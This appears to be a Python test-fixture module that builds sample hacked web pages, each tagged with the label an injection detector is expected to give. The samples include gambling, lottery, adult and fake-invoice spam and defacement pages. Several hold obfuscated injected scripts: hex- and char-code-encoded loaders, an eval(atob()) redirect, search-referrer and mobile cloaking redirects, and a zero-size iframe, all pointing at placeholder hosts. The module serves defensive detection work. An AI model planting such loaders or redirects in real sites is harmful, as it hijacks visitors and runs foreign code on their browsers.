"""Pages that someone else writes on: titles, scripts, whole pages put where nobody looks."""

from __future__ import annotations

from .checks_frames import ARTICLE, HOME, article, home, single

SPORTS = "".join(f"&#x{ord(c):X};" for c in "开云体育(中国)官方网站-登录入口")
# What one of the frameworks of such scripts writes: names of properties in hexadecimal.
HEX = (
    'window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"]'
    "(\"\\x3c\\x73\\x63\\x72\\x69\\x70\\x74 \\x73\\x72\\x63\\x3d'\\x2f\\x2f\\x6a\\x73\\x2e\\x74\\x6a\\x2d\\x39\\x39"
    ".example/tj.js'\\x3e\\x3c/\\x73\\x63\\x72\\x69\\x70\\x74\\x3e\");"
)
CODES = ",".join(
    str(ord(c)) for c in "document.write('<script src=\"//js.zz-tongji.example/a.js\"></script>')"
)


def put(name: str, html: str, *seen: str, url: str = HOME) -> None:
    """A page and the observations of `injection` on it."""
    single(f"injected/{name}", url, html, injection=list(seen))


def script(code: str) -> str:
    return f'<script type="text/javascript">{code}</script>'


def build() -> None:
    put("title_in_hexadecimal", home("", title=SPORTS), "page_defaced")
    put(
        "title_of_a_casino",
        home("", title="威尼斯人线上娱乐|百家乐|老虎机_澳门威尼斯人官网"),
        "page_defaced",
    )
    put(
        "keywords_of_lotteries",
        article(keywords="六合彩开奖结果,香港六合彩资料大全,彩票投注平台,时时彩计划"),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "visitors_of_search_engines_led_away",
        home(
            script(
                "var r=document.referrer;if(/(baidu|sogou|so|sm|bing)\\./i.test(r))"
                '{window.location.href="https://www.ty-9988.example/?from="+location.host;}'
            )
        ),
        "script_trick",
    )
    put(
        "spiders_are_told_otherwise",
        home(
            script(
                "var s=navigator.userAgent.toLowerCase();if(s.indexOf('baiduspider')==-1&&"
                "document.referrer.indexOf('baidu.com')>0){top.location.replace('http://www.ag-8899.example/');}"
            )
        ),
        "script_trick",
    )
    put("properties_in_hexadecimal", home(script(HEX)), "script_trick")
    put(
        "codes_of_characters",
        home(script(f"eval(String.fromCharCode({CODES}))")),
        "script_trick",
    )
    put(
        "script_of_a_stranger",
        home('<script src="https://js.jquery-cdn-min.example/jquery.min-3.6.8.js"></script>'),
        "foreign_script",
    )
    put(
        "frame_of_no_size",
        home('<iframe src="http://ad.win-count.example/x.html" width=0 height=0></iframe>'),
        "foreign_script",
    )
    put(
        "script_written_in_halves",
        home(
            script(
                'document.write("<scr"+"ipt src=\'http://tj.hm-baidu-tj.example/h.js\'></scr"+"ipt>");'
            )
        ),
        "foreign_script",
    )
    put(
        "element_made_by_a_script",
        home(
            script(
                "(function(){var s=document.createElement('script');"
                "s.src='https://sdk.51y5-la.example/js-sdk-pro.min.js';document.head.appendChild(s);})();"
            )
        ),
        "foreign_script",
    )
    put(
        "base64_that_is_run",
        home(script("eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cHM6Ly93d3cueGo3OC5leGFtcGxlLyI7'));")),
        "script_trick",
    )
    put(
        "telephones_are_led_away",
        home(
            script(
                "if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){"
                "location.href='https://m.yabo-vip.example/';}"
            )
        ),
        "script_trick",
    )
    put(
        "proud_intruder",
        "<html><head><title>Hacked by Sh4d0w</title></head><body bgcolor=black><center>"
        "<h1>Hacked By Sh4d0w Team</h1><p>Your security is low. We are watching.</p></center></body></html>",
        "page_defaced",
    )
    put(
        "page_of_a_lottery_in_a_column",
        article(
            title="彩票平台注册送彩金 时时彩投注技巧",
            text="<p>本平台提供时时彩、北京赛车、六合彩投注，注册送彩金，提现秒到账，信誉网投首选。</p>"
            "<p>百家乐、真人视讯、老虎机一应俱全，点击进入官方网站开户。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "invoices_for_sale",
        article(
            title="澄湖代开发票【微信同步1380000】可先验后付",
            text="<p>长期代开各类发票：住宿费发票、建筑材料发票、运输发票，可开全国，先开票后付款，点数优惠，加微信详谈。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "films_for_grown_ups",
        article(
            title="成人电影在线观看_国产自拍偷拍视频",
            text="<p>成人电影、情色视频、激情小电影免费在线观看，每日更新，无需下载播放器。</p>",
        ),
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "hidden_words_without_a_link",
        home(
            '<div style="display:none">博彩公司排名 真人娱乐平台 百家乐技巧 老虎机游戏 棋牌游戏平台 时时彩平台 '
            "彩票投注 网上赌场 威尼斯人赌场 太阳城娱乐</div>"
        ),
        "page_defaced",
    )
    put(
        "refreshed_to_a_casino",
        "<html><head><meta charset='utf-8'><meta http-equiv='refresh' content='0;url=https://www.bwin-365.example/'>"
        "<title>必威体育官网</title></head><body></body></html>",
        "page_defaced",
        url=ARTICLE,
    )
    put(
        "own_page_offers_the_domain",
        "<html><head><meta charset='utf-8'><title>chenghu-xian.invalid 域名出售</title></head>"
        "<body><h2>您正在访问的域名 chenghu-xian.invalid 可以转让</h2><p>The domain is for sale. 联系QQ报价。</p></body></html>",
        "page_defaced",
    )
